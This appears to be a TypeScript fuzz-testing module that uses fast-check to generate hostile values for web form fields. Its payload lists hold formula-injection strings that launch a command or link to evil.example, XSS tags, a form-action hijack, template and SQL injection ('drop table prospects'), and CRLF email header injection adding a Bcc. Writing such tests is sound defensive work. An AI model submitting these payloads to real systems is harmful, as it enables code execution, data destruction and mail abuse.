import * as fc from "fast-check";
import { anyCharacter } from "./any-character.ts";
import { canary } from "./canary.ts";
import type { FormSample } from "./form-samples.ts";

const line = [
  ..."=+-@＝＋－＠|%'\"<>&;,\\/{}[]()",
  " ",
  "\u00a0",
  "'",
  '"',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example")',
  '";=1+1;"',
  "<script>alert(1)</script>",
  "</textarea><img src=x onerror=alert(1)>",
  '"><input name=evil autofocus>',
  "</form><form action=//evil.example>",
  "<!--",
  "]]>",
  "&#61;",
  "&quot;",
  "javascript:alert(1)",
  "#{7*7}{{7*7}}",
  "' or 1=1; drop table prospects; --",
  "%0d%0aBcc: x@evil.example",
  // Marks that change the direction of text or are invisible, and line separators.
  ..."\u202e\u202d\u2066\u2069\u200f\u200e\u061c\u200b\ufeff\u2028\u2029",
  "Å🧑‍🤝‍🧑ก",
];
const controls = [
  ..."\0\r\n\t\b\u001b\u0007\u007f\u0085\u009b",
  "\r\n",
  "\r\nBcc: x@evil.example\r\n\r\n",
];
const surrogates = ["\ud800", "\udc00", "\udc00\ud800"];

function createHostileText(...parts: string[]) {
  const part = fc.oneof(fc.constantFrom(...parts), fc.string({ unit: anyCharacter, maxLength: 4 }));
  const upToSix = fc.array(part, { maxLength: 6 });
  return fc
    .tuple(upToSix, upToSix)
    .map(([before, after]) => before.join("") + canary + after.join(""));
}

/** Text that a form may accept, and text that none may. */
const text = fc.oneof(
  { weight: 3, arbitrary: createHostileText(...line) },
  { weight: 1, arbitrary: createHostileText(...line, ...controls) },
  { weight: 1, arbitrary: createHostileText(...line, ...surrogates) },
);
const email = fc.oneof(
  fc
    .constantFrom("=1+1", "+x", "-x", "@x", "'x", "<b>", "&amp;", "x;=1")
    .map((start) => `${start}${canary}@evil.example`),
  text,
);

/**
 * Fields of a form, some with hostile values, and unknown fields. Choices from a list stay as they are.
 */
export function createHostileFields({
  form,
  sample,
}: FormSample): fc.Arbitrary<Record<string, unknown>> {
  const values = Object.keys(sample)
    .filter((field) => form.limits[field] !== undefined)
    .map((field) => [field, field === "email" ? email : text] as const);
  const unknownFields = fc.dictionary(text, text, { maxKeys: 2, noNullPrototype: true });
  return fc
    .tuple(fc.record(Object.fromEntries(values), { requiredKeys: [] }), unknownFields)
    .map(([hostileFields, furtherFields]) => ({ ...furtherFields, ...sample, ...hostileFields }));
}
